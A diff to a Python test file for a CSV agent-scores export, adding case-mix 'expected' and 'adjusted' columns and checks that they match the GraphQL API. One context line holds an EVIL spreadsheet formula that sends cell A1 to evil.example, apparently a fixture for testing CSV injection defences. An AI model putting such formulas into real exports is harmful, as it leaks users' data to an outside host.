@@ -28,7 +28,7 @@ from tests.support.api import access_token, api_client, graphql_data
 from tests.support.derive import apply_and_settle
 
 EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
-SCORED = "total metrics { key value sampleSize }"
+SCORED = "total metrics { key value sampleSize expected adjustedRatio adjustedDifference }"
 AGENT_SCORES = f"""query($p: PeriodInput!, $t: ID) {{ agentScores(period: $p, teamId: $t) {{
   agent {{ id externalId name }} {SCORED} }} }}"""
 TEAM_SCORES = (
@@ -88,6 +88,10 @@ def assert_scored(row: dict[str, str], answer: dict[str, Any]) -> None:
     for m in answer["metrics"]:
         assert number(row[m["key"]]) == m["value"], m["key"]
         assert int(row[f"{m['key']}_sample_size"]) == m["sampleSize"], m["key"]
+        if f"{m['key']}_expected" in row:  # case mix (SPEC §8), agents and teams
+            adjusted = m["adjustedDifference"] if m["adjustedRatio"] is None else m["adjustedRatio"]
+            assert number(row[f"{m['key']}_expected"]) == m["expected"], m["key"]
+            assert number(row[f"{m['key']}_adjusted"]) == adjusted, m["key"]
 
 
 def test_every_cell_equals_the_graphql_answer_for_the_period(desk: Desk) -> None:
@@ -122,6 +126,13 @@ def test_the_header_is_stable_and_team_id_narrows_agents(desk: Desk) -> None:
     header = next(csv.reader(io.StringIO(response.text)))
     assert header[:4] == ["agent_id", "agent_external_id", "agent_name", "total"]
     assert header[4:6] == [header[4], f"{header[4]}_sample_size"]
+    at = header.index("resolution_time")
+    assert header[at : at + 4] == [
+        "resolution_time",
+        "resolution_time_sample_size",
+        "resolution_time_expected",
+        "resolution_time_adjusted",
+    ]
     assert 'filename="agent-scores-week-2025-03-10.csv"' in response.headers["content-disposition"]
     period = {"grain": "MONTH", "start": "2025-03-01"}
     mine = graphql_data(desk.client, desk.token, AGENT_SCORES, p=period, t=desk.team)
